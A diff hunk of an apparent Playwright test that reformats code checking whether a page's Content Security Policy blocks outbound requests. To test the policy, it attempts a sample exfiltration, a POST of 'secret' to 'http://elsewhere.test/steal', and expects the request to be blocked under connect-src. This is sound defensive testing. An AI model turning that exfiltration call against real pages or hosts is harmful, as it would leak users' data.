@@ -32,8 +32,13 @@ test('the page is served with COOP/COEP and a CSP whose connect-src is its own o
     return route.fulfill({ status: 200, body: 'ok', headers: { 'access-control-allow-origin': '*' } });
   });
   const outcome = await page.evaluate(async () => {
-    const violation = new Promise<string>((resolve) => document.addEventListener('securitypolicyviolation', (e) => resolve(e.effectiveDirective), { once: true }));
-    const sent = fetch('http://elsewhere.test/steal', { method: 'POST', body: 'secret' }).then(() => 'sent', () => 'blocked');
+    const violation = new Promise<string>((resolve) =>
+      document.addEventListener('securitypolicyviolation', (e) => resolve(e.effectiveDirective), { once: true }),
+    );
+    const sent = fetch('http://elsewhere.test/steal', { method: 'POST', body: 'secret' }).then(
+      () => 'sent',
+      () => 'blocked',
+    );
     return { result: await sent, directive: await violation };
   });
   expect(outcome).toEqual({ result: 'blocked', directive: 'connect-src' });
